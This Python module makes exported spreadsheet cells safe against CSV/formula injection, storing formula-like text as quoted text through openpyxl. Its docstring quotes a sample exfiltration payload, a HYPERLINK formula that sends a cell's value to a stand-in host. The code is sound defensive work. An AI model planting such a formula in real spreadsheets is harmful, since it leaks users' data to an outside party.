"""Spreadsheet cells that cannot run: the one helper every .xlsx and CSV export writes cells through.

A text that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheet programs skip before looking for one of those) is read by Excel and LibreOffice as a
formula, so a suggestion titled `=HYPERLINK("http://evil.example/?d="&A1,"x")` would run in the
office's spreadsheet (CSV/formula injection, OWASP). openpyxl makes any string starting with `=`
a formula. We keep the text exactly as typed and store it as a string cell with Excel's quote
prefix (the same as typing an apostrophe first): the value reads back unchanged, and the cell
stays text even when someone edits it in Excel.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """A CSV cell: formula-like text gets a leading apostrophe, which spreadsheets show as text."""
    return "'" + value if looks_like_formula(value) else value


def defuse(cell: Cell) -> Cell:
    """Make a cell holding formula-like text a plain text cell (numbers and dates are left alone)."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(ws: Worksheet, values: Iterable[Any]) -> tuple[Cell, ...]:
    """`ws.append(values)`, with every formula-like text written as text. Returns the row's cells."""
    ws.append(list(values))
    cells = tuple(ws[ws.max_row])
    for cell in cells:
        defuse(cell)
    return cells
